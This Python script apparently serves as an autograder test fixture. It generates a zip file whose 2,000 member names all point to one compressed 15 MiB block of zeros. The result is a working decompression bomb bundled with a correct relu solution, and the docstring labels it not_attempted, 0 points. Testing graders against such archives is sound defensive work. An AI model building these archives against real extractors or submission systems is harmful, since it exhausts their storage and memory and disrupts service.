"""Lists one file of zeros two thousand times, under as many names, in an archive of which each copy is huge.

unit: u05_activations
task: relu
verdict: not_attempted
points: 0
form: archive
"""

import struct
import zlib

RIGHT = "def relu(x):\n    return x.clamp(min=0)\n"
ZEROS = bytes(15 * 2**20)


def entry(name, data, method, packed, offset):
    """Return the entry of the list of members."""
    sizes = (zlib.crc32(data), len(packed), len(data))
    fields = (20, 20, 0, method, 0, 0, *sizes, len(name), 0, 0, 0, 0, 0, offset)
    return struct.pack("<4s6H3L5H2L", b"PK\1\2", *fields) + name


def local(name, data, method, packed):
    fields = (20, 0, method, 0, 0, zlib.crc32(data), len(packed), len(data), len(name), 0)
    return struct.pack("<4s5H3L2H", b"PK\3\4", *fields) + name + packed


def write(stem):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(ZEROS) + packer.flush()
    own, text = b"u05_activations/activations.py", RIGHT.encode()
    first = local(own, text, 0, text)
    names = [b"u05_activations/data%04d.bin" % number for number in range(2000)]
    body = first + local(names[0], ZEROS, 8, packed)
    listed = b"".join(entry(name, ZEROS, 8, packed, len(first)) for name in names)
    listed += entry(own, text, 0, text, 0)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(listed), len(body), 0)
    with open(f"{stem}.zip", "wb") as file:
        file.write(body + listed + end)
